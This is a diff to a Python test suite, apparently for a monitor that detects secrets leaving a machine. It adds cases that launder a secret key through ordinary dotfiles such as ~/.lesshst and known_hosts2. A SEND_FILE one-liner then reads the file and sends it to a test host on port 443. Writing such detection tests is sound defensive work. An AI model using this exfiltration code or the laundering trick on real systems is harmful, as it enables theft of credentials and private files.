@@ -6,12 +6,16 @@ import base64
 import binascii
 import os
 import shutil
+import subprocess
+import sys
 import zlib
+from types import SimpleNamespace
 
 import harness
 from harness import program, truths
 from net import HOST_V4
 from play import SSH, programs, write
+from tap import require_equal
 
 
 def gunzip(data):
@@ -113,11 +117,13 @@ def nothing(stage, name, variant="nothing"):
 
 def prepare(net, home, directory):
     exes = programs(home, printer=shutil.which("cat"), clean=shutil.which("cat"), creator=shutil.which("cp"),
+                    writer=shutil.which("cp"),
                     opener=program("technique-get-passed"), carrier=program("technique-hand-pipe"))
     write(os.path.join(directory, "92-flow.conf"),
           harness.policy_allow("test-printer", exes["printer"], [SSH], [HOST_V4 + ":443"])
           + harness.policy_allow("test-creator", exes["creator"], [SSH], [HOST_V4 + ":443"])
           + harness.policy_allow("test-clean", exes["clean"], [SSH], [HOST_V4 + ":443"]) + "Output=clean\n"
+          + f"[Carrier test-own]\nExe={exes['writer']}\nPath=~/.own-history\nOwn=yes\n"
           + f"[Carrier test-carrier]\nExe={exes['carrier']}\n"
           + f"[Carrier test-quiet]\nPath={os.fsdecode(home.root)}/quiet/*/relay.*\n"
           + harness.policy_allow("test-opener", exes["opener"], [SSH]))
@@ -132,7 +138,37 @@ def silent(stage, name, variant, command=(), directory="scratch"):
     stage.expect_silence(truth.sender, variant)
 
 
+# Reads a file, and sends what is in it.
+SEND_FILE = ("import socket, sys; data = open(sys.argv[2], 'rb').read(); "
+             "sock = socket.create_connection((sys.argv[1], 443)); sock.sendall(data); sock.shutdown(socket.SHUT_WR); "
+             "sock.recv(1)")
+
+
+def laundered(stage, place, writer, quiet=False):
+    """A copy in a file that other programs read all the time: its own program may write there, a thief may not."""
+    key, secret = stage.home.key()
+    copy = os.path.join(stage.home.root, b"home/ana", place.encode())
+    os.makedirs(os.path.dirname(copy), exist_ok=True)
+    try:
+        subprocess.run([*writer, key, copy], check=True)
+        sender = stage.net.popen([sys.executable, "-c", SEND_FILE, HOST_V4, copy])
+        require_equal(sender.wait(), 0, "the sender")
+        stage.net.sink.wait_arrived(secret)
+        if quiet:
+            stage.expect_silence(sender.pid, f"written by the program whose file {place} is")
+            return
+        stage.find(SimpleNamespace(sender=sender.pid), lambda path: path == harness.as_text(key), lambda alert: True,
+                   f"by way of {place}")
+    finally:
+        os.unlink(copy)
+
+
 def part(t, stage, exes):
+    for place in (".lesshst", ".ssh/known_hosts2", ".local/share/recently-used.xbel"):
+        t.case(f"H05 file: cp to ~/{place}", laundered, stage, place, ["cp"])
+    t.case("H05 honest: a file written by the program whose own it is", laundered, stage, ".own-history",
+           [exes["writer"]], quiet=True)
+    t.case("H05 file: the same file, written by another program", laundered, stage, ".own-history", ["cp"])
     for row, name, variants in (("H03 pipe", "hand-pipe", PIPES), ("H04", "hand-socket", SOCKETS),
                                 ("H05 file:", "hand-file", FILES), ("H06 memory:", "hand-memory", MEMORY)):
         for variant, what in variants.items():
